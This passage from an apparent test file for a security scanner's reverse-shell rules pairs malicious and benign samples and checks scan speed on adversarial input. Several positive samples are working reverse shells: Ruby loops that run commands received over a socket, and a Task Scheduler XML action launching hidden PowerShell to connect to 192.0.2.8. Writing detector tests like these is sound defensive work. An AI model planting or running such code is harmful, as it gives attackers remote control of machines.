    id: 'SG-RSHELL-005',
    file: 'plugins/tool_sync/loader.rb',
    positive:
      "require 'socket'\nThread.new do\n  sock = TCPSocket.open(RELAY, 7001)\n  while (req = sock.gets)\n    res = IO.popen(req.strip, err: [:child, :out]) { |io| io.read }\n    sock.print(res)\n  end\nend\n",
    negative:
      "require 'socket'\nsock = TCPSocket.open(RELAY, 7001)\nstatus = sock.gets\nlog = IO.popen(['git', 'log', '-1']) { |io| io.read }\nsock.print(log)\n",
  },
  {
    id: 'SG-RSHELL-005',
    file: 'lib/bridge.rb',
    positive:
      "require 'socket'\nc = TCPSocket.new(host, port)\nloop do\n  order = c.gets or break\n  c.write(`#{order}`)\nend\n",
    negative:
      'require \'socket\'\nc = TCPSocket.new(host, port)\nname = c.gets\nc.write(`hostname`)\nputs "hello #{name}"\n',
  },
]);

describe('adversarial Ruby process calls', () => {
  const MiB = 1024 * 1024;
  const cases: [string, string][] = [
    ['IO.popen calls', 's = TCPSocket.new(h, p)\nx = s.gets\n' + 'IO.popen( '.repeat(MiB / 10)],
    ['env-hash spawns', 's = TCPSocket.new(h, p)\nx = s.gets\n' + 'Process.spawn({'.repeat(MiB / 15)],
    ['backtick interpolations', 's = TCPSocket.new(h, p)\nx = s.gets\n' + '`#{a'.repeat(MiB / 4)],
  ];
  it.each(cases)('should scan 1 MiB of %s in under a second', (_name, text) => {
    expectScansQuickly([text], 'lib/x.rb');
  });
});

describeRuleCases('reverse-shell (Task Scheduler XML actions)', [
  {
    // The task's second action, read as the command line the scheduler runs.
    id: 'SG-RSHELL-004',
    file: 'tasks/NightlyIndex.xml',
    positive: `<?xml version="1.0"?>
<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Actions Context="Author">
    <Exec><Command>C:\\Tools\\indexer.exe</Command><Arguments>/full</Arguments></Exec>
    <Exec>
      <Command>pwsh.exe</Command>
      <Arguments>-w hidden -c "$t=New-Object System.Net.Sockets.TCPClient('192.0.2.8',8443);$r=$t.GetStream()"</Arguments>
    </Exec>
  </Actions>
</Task>
`,
    negative: `<?xml version="1.0"?>
<Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <Actions Context="Author">
    <Exec><Command>C:\\Tools\\indexer.exe</Command><Arguments>/full /log C:\\Logs\\index.log</Arguments></Exec>
  </Actions>
</Task>
`,
  },
]);

describe('reverse-shell (Task Scheduler XML): adversarial input', () => {
  it('should scan 1 MiB of unclosed and empty actions in under a second', () => {
    expectScansQuickly(
      [
        '<Exec><Command>'.repeat((1024 * 1024) / 15),
        '<Exec><Command>a</Command></Exec>'.repeat((1024 * 1024) / 33),
      ],
      'task.xml',
    );
  });
});
